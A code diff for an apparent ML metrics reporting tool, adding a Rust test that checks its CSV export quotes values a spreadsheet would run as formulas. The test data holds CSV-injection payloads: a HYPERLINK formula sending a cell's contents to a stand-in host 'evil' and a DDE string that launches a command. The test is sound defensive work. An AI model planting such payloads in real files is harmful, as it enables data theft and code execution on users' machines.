@@ -131,6 +131,7 @@ pub(crate) fn sample_records() -> Records {
             "results/runs.jsonl:19: ignored an incomplete last line (an interrupted append?)"
                 .into(),
         ],
+        files: Vec::new(),
     }
 }
 
@@ -211,4 +212,58 @@ fn markdown_escapes_table_breaking_text() {
         "{md}"
     );
     assert!(md.contains("FID ↓") && md.contains("IS ↑"));
+}
+
+#[test]
+fn csv_cells_that_a_spreadsheet_would_run_as_formulas_are_quoted() {
+    let hostile = [
+        "=HYPERLINK(\"http://evil/?\"&A1,\"click\")",
+        "+cmd|' /C calc'!A0",
+        "-2+3+cmd",
+        "@SUM(1+1)",
+        "\tTAB",
+        "\rCR",
+    ];
+    let mut list = Vec::new();
+    for (i, model) in hostile.iter().chain(["-1", "plain"].iter()).enumerate() {
+        let mut fid = record("fid", &[("model", model)], "2026-11-21T10:00:00Z");
+        fid.value = Some(-(i as f64) - 0.5);
+        list.push(fid);
+    }
+    let records = Records {
+        records: list
+            .into_iter()
+            .enumerate()
+            .map(|(i, record)| SourcedRecord {
+                record,
+                source: format!("r.jsonl:{}", i + 1),
+            })
+            .collect(),
+        ..Records::default()
+    };
+    let report = Report::from_records(&records, &ReportOptions::default()).unwrap();
+    let text = String::from_utf8(csv::render(&report).unwrap()).unwrap();
+    for model in hostile {
+        assert!(
+            !text.contains(&format!("\n{model},")),
+            "{model:?} unquoted: {text}"
+        );
+        assert!(
+            !text.contains(&format!("\n\"{model}")),
+            "{model:?} unquoted: {text}"
+        );
+    }
+    assert!(
+        text.contains("\n\"'=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"click\"\")\",-0.5,"),
+        "{text}"
+    );
+    assert!(text.contains("\n'@SUM(1+1),-3.5,"), "{text}");
+    assert!(text.contains("\n'-2+3+cmd,-2.5,"), "{text}");
+    // A label that is a number, and negative numbers in numeric columns,
+    // are left alone.
+    assert!(text.contains("\n-1,-6.5,"), "{text}");
+    assert!(text.contains("\nplain,-7.5,"), "{text}");
+    assert_eq!(csv::escape_formula("=1+1"), "'=1+1");
+    assert_eq!(csv::escape_formula("-1.5e3"), "-1.5e3");
+    assert_eq!(csv::escape_formula("a=b"), "a=b");
 }
